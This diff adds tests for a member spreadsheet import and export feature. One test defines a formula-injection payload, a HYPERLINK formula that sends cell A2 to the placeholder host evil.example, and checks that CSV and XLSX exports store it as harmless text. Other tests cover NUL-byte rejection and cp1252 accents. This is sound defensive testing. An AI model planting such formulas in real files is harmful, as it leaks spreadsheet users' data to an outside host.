@@ -476,6 +476,31 @@ def test_xlsx_export_imports_back_unchanged(admin_client):
     assert [row.import_type for row in result.valid_rows()] == ["skip"]  # nothing changed
 
 
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_member_exports_write_a_formula_as_text_and_import_back_unchanged(admin_client, file_format):
+    from openpyxl import load_workbook
+
+    MemberFactory(full_name="@Kim Daniel", notes=FORMULA_NOTE, phone="+82 2 3460 7114", title="-")
+    content = _export(admin_client, file_format).content
+    if file_format == "csv":
+        body = content.decode("utf-8-sig")
+        quoted = FORMULA_NOTE.replace('"', '""')
+        assert f'"\'{quoted}"' in body  # OWASP's apostrophe, then CSV quoting
+        assert ",'@Kim Daniel," in body and ",'+82 2 3460 7114," in body and ",'-," in body
+    else:
+        sheet = load_workbook(BytesIO(content)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}  # no formula cell ("f")
+        assert FORMULA_NOTE in [cell.value for cell in cells]
+    preview = _import_file(admin_client, f"members.{file_format}", content, file_format)
+    result = preview.context["result"]
+    assert not result.has_errors() and not result.has_validation_errors()
+    assert [row.import_type for row in result.valid_rows()] == ["skip"]  # read back as it was
+
+
 def test_importing_an_xlsx_file_adds_its_members(admin_client):
     from openpyxl import Workbook
 
@@ -534,3 +559,30 @@ def test_import_preview_shows_a_changed_value_old_struck_out_then_new(admin_clie
     html = response.content.decode()
     assert "<del>Chief Executive Officer</del> → <ins>CEO</ins>" in html
     assert "style=" not in html.split('class="import-preview"')[1]  # the CSP would block it
+
+
+def test_a_member_import_with_a_nul_byte_is_refused_in_words_before_the_database(admin_client):
+    # PostgreSQL refuses NUL in text: the import used to end in a 500 there.
+    DelegationFactory(slug="china-2016")
+    content = b"delegation,full_name,notes\nchina-2016,Li Ming,NUL\x00note\n"
+    response = _import_file(admin_client, "members.csv", content, "csv")
+    assert response.status_code == 200
+    assert (
+        response.context["form"]
+        .errors["import_file"][0]
+        .startswith("Line 2, column C: the cell holds a NUL character (byte 0)")
+    )
+    assert not Member.objects.exists()
+
+
+def test_a_member_csv_saved_by_excel_on_windows_imports_with_its_accents(admin_client):
+    delegation = DelegationFactory(slug="france-2024")
+    content = "delegation,full_name,title\nfrance-2024,Hélène Dupré,Déléguée – export\n".encode("cp1252")
+    preview = _import_file(admin_client, "members.csv", content, "csv")
+    assert (
+        not preview.context["result"].has_errors() and not preview.context["result"].has_validation_errors()
+    )
+    _confirm(admin_client, preview)
+    assert list(delegation.members.values_list("full_name", "title")) == [
+        ("Hélène Dupré", "Déléguée – export")
+    ]
